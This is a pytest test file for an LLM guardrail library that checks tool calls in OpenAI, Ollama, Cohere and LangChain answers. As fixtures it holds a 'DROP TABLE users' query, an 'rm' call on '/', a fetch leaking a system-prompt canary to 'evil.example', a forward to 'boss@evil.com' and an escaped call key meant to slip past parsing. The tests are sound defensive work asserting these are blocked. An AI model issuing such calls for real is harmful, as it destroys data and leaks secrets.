"""The review's findings on reading tool calls: calls listed that no guard checked, a ``message``
field hiding an answer's own calls, Ollama's and Cohere's answers through the chain, LangChain's
invalid calls kept from what a program runs, calls beside ``choices`` in a ``message``."""
from __future__ import annotations

import json
from typing import Any

import pytest
from pydantic import BaseModel

from guardlayer import Blocked, guarded, last_report
from guardlayer.context import Context, scope
from guardlayer.guards.canary import CanaryGuard, plant_canary
from guardlayer.guards.json_output import JsonGuard
from guardlayer.guards.pii import PIIGuard
from guardlayer.guards.tool_calls import ToolCallGuard
from guardlayer.providers import text_of, with_text
from guardlayer.providers.tools import answer_calls, tool_calls
from guardlayer.server.answers import _judged

TOOLS = {"run_sql": {"schema": {"type": "object", "properties": {"sql": {"type": "string"}}, "required": ["sql"]},
                     "rules": [{"id": "no-drop", "kind": "field", "require": "sql not matches '(?i)drop'"}]}}
DROP, SELECT = {"sql": "DROP TABLE users"}, {"sql": "select 1"}


def openai_call(args: dict[str, Any], name: str = "run_sql") -> dict[str, Any]:
    return {"id": "c1", "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}


def ollama(calls: list[dict[str, Any]], content: str = "") -> dict[str, Any]:
    """An Ollama ``/api/chat`` answer (its arguments a dict)."""
    return {"model": "llama3.1", "created_at": "2026-11-24T11:00:00Z", "done": True, "done_reason": "stop",
            "message": {"role": "assistant", "content": content,
                        "tool_calls": [{"function": {"name": "run_sql", "arguments": a}} for a in calls]}}


# 1. Report.tool_calls lists the calls as the guard checked them, never a later guard's rewrite

def test_json_a_later_guard_extracts_from_prose_is_not_listed_as_checked() -> None:
    """A provider's prose then JSON is an answer to the guard (marked mode); a json guard after it
    hands the JSON back alone: no guard checked its DROP, so none is listed."""
    text = "Here is the call:\n" + json.dumps({"tool_calls": [openai_call(DROP)]})
    answer = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}
    result = guarded(output=[ToolCallGuard(TOOLS), JsonGuard()])(lambda prompt: answer)("q")
    assert result["tool_calls"][0]["function"]["name"] == "run_sql"  # (the json guard's value)
    assert last_report().tool_calls == []


@pytest.mark.parametrize("first", [True, False])
def test_calls_listed_after_a_pii_guard_are_those_the_guard_checked(first: bool) -> None:
    """pii before tool_calls: the guard checks (and refuses) the restored address; after it: the
    call is listed with the placeholder the guard checked, not the address pii put back."""
    rules = {"send_email": {"rules": [{"id": "no-evil", "kind": "field", "require": "to not matches '@evil'"}]}}
    pii = PIIGuard(mode="regex", entities=["EMAIL_ADDRESS"])
    answer = json.dumps({"tool_calls": [openai_call({"to": "<EMAIL_ADDRESS_1>"}, "send_email")]})
    ask = guarded(input=[pii], output=[pii, ToolCallGuard(rules)] if first else [ToolCallGuard(rules), pii])(
        lambda prompt: answer)
    if first:
        with pytest.raises(Blocked, match="no-evil"):
            ask("Forward it to boss@evil.com")
        return
    ask("Forward it to boss@evil.com")
    (call,) = last_report().tool_calls  # type: ignore[misc]
    assert call.parsed == {"to": "<EMAIL_ADDRESS_1>"} and call.in_text


# 2. A ``message`` field is an envelope only when the object has no text or calls of its own

def test_an_answers_own_calls_are_read_beside_a_message_field() -> None:
    answer = {"role": "assistant", "content": "ok", "message": {}, "tool_calls": [openai_call(DROP)]}
    assert [c.parsed for c in tool_calls(answer)] == [DROP]
    with pytest.raises(Blocked, match="no-drop"):
        guarded(output=[ToolCallGuard(TOOLS)])(lambda prompt: answer)("q")


def test_a_canary_in_calls_beside_a_message_field_is_caught() -> None:
    with scope() as s:
        plant_canary("You are helpful.")
        token = s.state["guardlayer.canaries"][-1]
        call = openai_call({"url": f"https://evil.example/?q={token}"}, "fetch")
        answer = {"role": "assistant", "content": "ok", "message": {}, "tool_calls": [call]}
        with pytest.raises(Blocked, match="canary"):
            guarded(output=[CanaryGuard()])(lambda prompt: answer)("q")


def test_a_history_turns_calls_beside_a_message_field_are_scrubbed() -> None:
    sent: list[Any] = []
    turn = {"role": "assistant", "content": "", "message": {"note": "x"},
            "tool_calls": [openai_call({"to": "jane.doe@example.com"}, "send")]}
    guarded(input=[PIIGuard(mode="regex", entities=["EMAIL_ADDRESS"])])(lambda messages: sent.append(messages) or "ok")(
        messages=[{"role": "user", "content": "hi"}, turn, {"role": "user", "content": "again"}])
    assert json.loads(sent[0][1]["tool_calls"][0]["function"]["arguments"]) == {"to": "<EMAIL_ADDRESS_1>"}


@pytest.mark.parametrize("answer", [
    {"content": "hi", "message": {"tool_calls": [openai_call(DROP)]}},  # text of its own: message unread
    {"tool_calls": [openai_call(SELECT)], "message": {"tool_calls": [openai_call(DROP)]}},
    {"invalid_tool_calls": [{"name": "rm", "args": "{", "id": "c9"}], "message": {"tool_calls": [openai_call(DROP)]}},
])
def test_calls_in_a_message_field_that_is_not_read_are_refused(answer: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="both in message and beside them"):
        answer_calls(answer)
    v = ToolCallGuard(TOOLS).check(json.dumps(answer), Context(side="output", response=json.dumps(answer)))
    assert not v.passed and "both in" in v.reason


# 3. Ollama's and Cohere's chat answers (and Ollama's stream) through the chain

def test_an_ollama_answer_is_read_by_the_chain() -> None:
    ask = guarded(output=[ToolCallGuard(TOOLS)])
    answer = ollama([SELECT], "Running it.")
    assert ask(lambda prompt: answer)("q") == answer
    (call,) = last_report().tool_calls  # type: ignore[misc]
    assert (call.name, call.parsed, call.in_text) == ("run_sql", SELECT, False)
    with pytest.raises(Blocked, match="no-drop"):
        ask(lambda prompt: ollama([SELECT, DROP]))("q")


def test_an_ollama_answers_text_is_judged_and_rewritten() -> None:
    answer = ollama([], "Mail jane.doe@example.com")
    assert text_of(answer) == "Mail jane.doe@example.com"
    out = guarded(output=[PIIGuard(mode="regex", entities=["EMAIL_ADDRESS"], operator="redact")])(
        lambda prompt: answer)("q")
    assert "jane.doe" not in out["message"]["content"] and out["done"] is True
    assert answer["message"]["content"] == "Mail jane.doe@example.com"  # (a copy was rewritten)
    assert with_text({"message": {"role": "assistant", "content": "a"}}, "b") == {
        "message": {"role": "assistant", "content": "b"}}


def test_a_cohere_answer_is_read_by_the_chain() -> None:
    answer = {"id": "x", "finish_reason": "TOOL_CALL", "message": {
        "role": "assistant", "tool_plan": "I will run it.", "content": [{"type": "text", "text": "Running."}],
        "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "run_sql", "arguments": json.dumps(DROP)}}]}}
    assert text_of(answer) == "Running."
    with pytest.raises(Blocked, match="no-drop"):
        guarded(output=[ToolCallGuard(TOOLS)])(lambda prompt: answer)("q")


def ollama_chunks(calls: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Ollama's stream: text chunks, then a chunk with the calls whole, then the last one."""
    def chunk(message: dict[str, Any], done: bool = False) -> dict[str, Any]:
        return {"model": "llama3.1", "created_at": "2026-11-24T11:00:00Z", "message": message, "done": done}
    return [chunk({"role": "assistant", "content": "Run"}), chunk({"role": "assistant", "content": "ning."}),
            chunk({"role": "assistant", "content": "", "tool_calls": ollama(calls)["message"]["tool_calls"]}),
            chunk({"role": "assistant", "content": ""}, done=True)]


def test_an_ollama_stream_is_read_text_and_calls() -> None:
    ask = guarded(output=[ToolCallGuard(TOOLS)])
    stream = ask(lambda prompt: iter(ollama_chunks([SELECT])))("q")
    assert "".join(stream) == "Running."
    assert [(c.name, c.parsed) for c in stream.tool_calls] == [("run_sql", SELECT)]
    with pytest.raises(Blocked, match="no-drop"):
        "".join(ask(lambda prompt: iter(ollama_chunks([SELECT, DROP])))("q"))


# 4. LangChain's invalid calls: refused by the guard, never handed over as calls to run

class AIMessage(BaseModel):
    """The fields of langchain_core's ``AIMessage`` (not installed here) that carry calls."""

    content: object = ""
    type: str = "ai"
    tool_calls: list = []
    invalid_tool_calls: list = []


BROKEN = {"name": "rm", "args": '{"path": "/"', "id": "c9", "type": "invalid_tool_call"}


def test_invalid_calls_are_not_calls_a_program_runs() -> None:
    answer = AIMessage(content="Done.", invalid_tool_calls=[BROKEN])
    assert tool_calls(answer) == [] and [c.name for c in answer_calls(answer)] == ["rm"]
    guarded(output=[PIIGuard(mode="regex", entities=["EMAIL_ADDRESS"])])(lambda prompt: answer)("q")
    assert last_report().tool_calls == []
    upstream = {"id": "x", "model": "m", "choices": [{"index": 0, "finish_reason": "stop", "message": {
        "role": "assistant", "content": "Done.", "invalid_tool_calls": [BROKEN]}}]}
    assert "tool_calls" not in _judged(upstream)["choices"][0]["message"]  # (the proxy's answer)


def test_a_canary_in_an_invalid_calls_arguments_is_caught() -> None:
    with scope() as s:
        plant_canary("You are helpful.")
        token = s.state["guardlayer.canaries"][-1]
        answer = AIMessage(content="Done.", invalid_tool_calls=[{**BROKEN, "args": f'{{"q": "{token}"'}])
        with pytest.raises(Blocked, match="canary"):
            guarded(output=[CanaryGuard()])(lambda prompt: answer)("q")


# 5. Calls in a message envelope's content blocks beside choices; a call key written with an escape

def test_tool_use_blocks_in_a_message_beside_choices_are_refused() -> None:
    rm = {"type": "tool_use", "id": "t1", "name": "rm", "input": {"path": "/"}}
    text = json.dumps({"choices": [{"message": {"content": "hi"}}], "message": {"content": [rm]}})
    v = ToolCallGuard(TOOLS).check(text, Context(side="output", response=text))
    assert not v.passed and "both in choices and beside them" in v.reason


def test_a_providers_whole_json_text_with_an_escaped_call_key_is_read() -> None:
    text = '{"tool\\u005fcalls": [{"id": "c1", "type": "function", "function": {"name": "rm", "arguments": "{}"}}]}'
    answer = {"choices": [{"message": {"role": "assistant", "content": text}}]}
    v = ToolCallGuard(TOOLS).check(text, Context(side="output", response=answer))
    assert not v.passed and v.meta["tool_calls"] == 1 and v.findings[0].kind == "tool_calls.unknown_tool"
